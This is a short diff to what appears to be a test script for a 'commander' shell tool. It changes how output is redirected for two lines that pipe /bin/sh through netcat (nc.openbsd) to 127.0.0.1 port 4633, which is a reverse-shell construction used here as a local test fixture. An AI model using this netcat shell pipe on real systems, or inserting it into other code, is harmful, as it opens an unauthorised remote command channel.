@@ -15,8 +15,8 @@ commander 4633 3 id
 #: act
 . lib/peers.sh
 act
-(tail -f -s 0.1 /tmp/r33.o | nc.openbsd 127.0.0.1 4633 > /tmp/r33.c) < /dev/null 2> /dev/null &
-(tail -f -s 0.1 /tmp/r33.c | /bin/sh >> /tmp/r33.o 2>&1) < /dev/null &
+(tail -f -s 0.1 /tmp/r33.o | nc.openbsd 127.0.0.1 4633 > /tmp/r33.c) < /dev/null > /dev/null 2>&1 &
+(tail -f -s 0.1 /tmp/r33.c | /bin/sh >> /tmp/r33.o 2>&1) < /dev/null > /dev/null 2>&1 &
 who shell /bin/sh
 #: clean
 pkill -f '^tail -f -s 0.1 /tmp/r33' || true
